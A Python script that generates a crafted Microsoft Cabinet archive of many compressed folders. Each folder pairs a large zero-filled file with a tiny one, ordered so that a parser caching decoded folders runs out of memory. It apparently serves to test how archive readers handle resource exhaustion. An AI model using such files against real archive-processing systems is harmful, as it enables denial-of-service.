#!/usr/bin/env python3
"""Microsoft Cabinet: N folders, each an MSZIP stream of one big file of
zeros (BIG bytes) and one tiny file. The walk reads the big files first and
the tiny ones last, so a reader that holds every decoded folder until its
last file is read holds N x BIG bytes at once."""
import struct, sys, zlib
N = int(sys.argv[1]) if len(sys.argv) > 1 else 100
BIG = int(sys.argv[2]) if len(sys.argv) > 2 else 8 << 20
out = sys.argv[3] if len(sys.argv) > 3 else f"/tmp/cab_folders_{N}.bin"


def mszip(chunk):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"CK" + c.compress(chunk) + c.flush()


files, folders = [], []
zero_block = mszip(bytes(32768))
for i in range(N):
    head = bytearray(32768)
    head[:8] = i.to_bytes(8, "little")
    stream_blocks = [(mszip(bytes(head)), 32768)]
    stream_blocks += [(zero_block, 32768)] * (BIG // 32768 - 1)
    tiny = b"tiny%d" % i
    stream_blocks.append((mszip(tiny), len(tiny)))
    folders.append(stream_blocks)
    files.append((BIG, 0, i, b"d%03d/a.bin" % i))
    files.append((len(tiny), BIG, i, b"d%03d/b.bin" % i))
coff_files = 36 + 8 * N
table = b"".join(
    struct.pack("<IIHHHH", size, offset, folder, 0x5A21, 0x6000, 0x20) + name + b"\0"
    for size, offset, folder, name in files
)
pos = coff_files + len(table)
folder_records, body = b"", []
for blocks in folders:
    folder_records += struct.pack("<IHH", pos, len(blocks), 1)
    for data, plain in blocks:
        block = struct.pack("<IHH", 0, len(data), plain) + data
        body.append(block)
        pos += len(block)
header = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, pos, 0, coff_files, 0, 3, 1, N, len(files), 0, 1, 0)
with open(out, "wb") as f:
    f.write(header + folder_records + table + b"".join(body))
